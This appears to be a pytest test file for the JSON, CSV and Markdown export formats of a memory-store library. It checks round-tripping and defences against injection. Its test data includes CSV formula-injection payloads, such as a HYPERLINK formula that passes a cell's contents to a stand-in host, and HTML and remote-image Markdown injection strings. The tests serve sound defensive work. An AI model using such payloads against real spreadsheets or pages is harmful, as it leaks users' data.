"""Formats of an export: nothing that a memory holds becomes anything but text."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from muniment.domain.memories.memory import (
    Category,
    Embedding,
    EmbeddingState,
    Memory,
    MemoryEntity,
    MemoryKind,
    MemoryType,
    Tier,
    Visibility,
)
from muniment.domain.transfer.exporting import ExportFormat, is_sensitive
from muniment.services.transfer.export_formats import (
    COLUMNS,
    ENCODERS,
    json_line,
    markdown_section,
    table_row,
)
from muniment.services.transfer.memory_record import memory_record

NOON = datetime(2026, 5, 1, 12, 30, tzinfo=UTC)


def memory(content: str = "Ada drinks tea.", **changed: Any) -> Memory:
    given: dict[str, Any] = {
        "id": "0196",
        "short_id": "mem_1",
        "number": 7,
        "namespace": "default",
        "agent_id": None,
        "user_id": "ada",
        "session_id": None,
        "project": None,
        "type": MemoryType.PREFERENCE,
        "kind": MemoryKind.SEMANTIC,
        "categories": (Category.HEALTH, Category.INTERESTS),
        "tags": ("tea", "two words"),
        "metadata": {"cups": 3, "größe": "groß"},
        "importance": 0.5,
        "tier": Tier.WARM,
        "visibility": Visibility.PRIVATE,
        "source": None,
        "actor": "person",
        "created_at": NOON,
        "updated_at": NOON,
        "accessed_at": None,
        "access_count": 0,
        "expires_at": None,
        "archived_at": None,
        "deleted_at": None,
        "embedding": Embedding(EmbeddingState.READY, "model"),
        "client_id": None,
        "version": 1,
        "entities": (MemoryEntity("person", "Ada", 0.9),),
        "derived": frozenset({"kind"}),
    }
    return Memory(content=content, **(given | changed))


def cells(one: Memory) -> dict[str, str]:
    rows = list(csv.reader(io.StringIO(table_row(one), newline="")))
    assert len(rows) == 1
    return dict(zip(COLUMNS, rows[0], strict=True))


@pytest.mark.parametrize(
    "text", ["", "日本語 🫖 é", "two\nlines", 'tab\tand "quotes"', "a\u2028b\u2029c\u0085d\x0be"]
)
def test_a_line_of_json_reads_back_whatever_splits_lines(text: str) -> None:
    line = json_line(memory(text))
    assert line.endswith("\n")
    assert len(line.splitlines()) == 1
    assert json.loads(line) == memory_record(memory(text))
    assert json.loads(line)["content"] == text


def test_a_line_of_json_holds_every_field() -> None:
    record = json.loads(json_line(memory()))
    fields = {name for name in Memory.__slots__ if not name.startswith("_")}
    assert fields <= set(record)
    assert record["created_at"] == "2026-05-01T12:30:00.000Z"
    assert record["metadata"] == {"cups": 3, "größe": "groß"}
    assert record["derived"] == ["kind"]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(first: str) -> None:
    evil = f'{first}HYPERLINK("http://x/"&A1)'
    told = cells(memory(evil, tags=(evil,), user_id=evil, source=evil))
    for name in ("content", "tags", "user_id", "source"):
        assert told[name] == f"'{evil}"


@pytest.mark.parametrize("cut", [";", "; ", "\t", "\r\n", "\n"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_no_cell_is_a_formula_where_semicolons_cut(cut: str, sign: str) -> None:
    evil = f"a{cut}{sign}1+1{cut}b"
    told = cells(memory(evil, tags=("a", f"{sign}1"), source="a=b; c-d", metadata={"n": evil}))
    assert told["content"] == f"a{cut}'{sign}1+1{cut}b"
    assert told["tags"] == f"a; '{sign}1"
    assert told["source"] == "a=b; c-d"
    assert json.loads(told["metadata"]) == {"n": evil}
    assert not set(told["metadata"]) & set(";\t\r\n")


def test_a_table_row_says_what_the_memory_says() -> None:
    told = cells(memory('a;b,"c"\r\nd', archived_at=NOON))
    assert told["content"] == 'a;b,"c"\r\nd'
    assert told["categories"] == "health; interests"
    assert told["tags"] == "tea; two words"
    assert told["entities"] == "Ada (person)"
    assert json.loads(told["metadata"]) == {"cups": 3, "größe": "groß"}
    assert (told["importance"], told["access_count"], told["agent_id"]) == ("0.5", "0", "")
    assert told["archived_at"] == "2026-05-01T12:30:00.000Z"
    assert cells(memory(metadata={}))["metadata"] == ""
    head = ENCODERS[ExportFormat.CSV].head
    assert head == "\ufeff" + ",".join(COLUMNS) + "\r\n"


def test_a_section_quotes_the_text_and_lists_what_is_set() -> None:
    section = markdown_section(memory("One.\n\n# Two\r\n- three\rfour"))
    assert section.startswith(
        "## 2026-05-01 12:30 UTC\n\n> One.\n>\n> # Two\n> - three\n> four\n\n- id: `0196`\n"
    )
    assert "- tags: `tea`, `two words`\n" in section
    assert "- entities: `Ada (person)`\n" in section
    assert '- metadata: `{"cups": 3, "größe": "groß"}`\n' in section
    assert "agent_id" not in section
    assert section.endswith("\n\n")


def test_markdown_loads_nothing_and_runs_nothing() -> None:
    section = markdown_section(
        memory(
            "<img src=x> \\<b> ![a](http://x/p.png)",
            tags=("`tick`", "a ``b", "<i>"),
            source="two\nlines",
        )
    )
    quoted = section.splitlines()[2]
    assert quoted == "> &lt;img src=x> \\&lt;b> !&#91;a](http://x/p.png)"
    assert "- tags: `` `tick` ``, ```a ``b```, `<i>`\n" in section
    assert "- source: `two lines`\n" in section


def test_visibility_alone_makes_a_memory_sensitive() -> None:
    assert not is_sensitive(memory())
    assert is_sensitive(memory(visibility=Visibility.CONFIDENTIAL))
    assert not is_sensitive(memory(categories=(Category.HEALTH, Category.PRIVATE)))
